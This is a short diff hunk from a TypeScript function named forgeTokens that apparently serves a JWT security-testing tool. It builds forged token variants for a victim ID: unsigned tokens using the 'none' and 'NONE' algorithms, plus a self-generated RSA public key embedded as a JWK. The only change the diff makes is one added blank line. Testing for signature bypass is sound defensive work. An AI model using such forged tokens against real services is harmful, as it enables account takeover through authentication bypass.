@@ -55,6 +55,7 @@ export function forgeTokens(access: string, id: string, victimId: string): Recor
   const jwk = { ...rsa.publicKey.export({ format: 'jwk' }), kid: header.kid, use: 'sig', alg: 'RS256' };
   const [content = ''] = [access.slice(0, access.lastIndexOf('.'))];
   const unsigned = (alg: string, rest = '') => `${encode({ ...header, alg })}.${encode(claims)}.${rest}`;
+
   return {
     'algorithm "none"': unsigned('none'),
     'algorithm "NONE"': unsigned('NONE'),
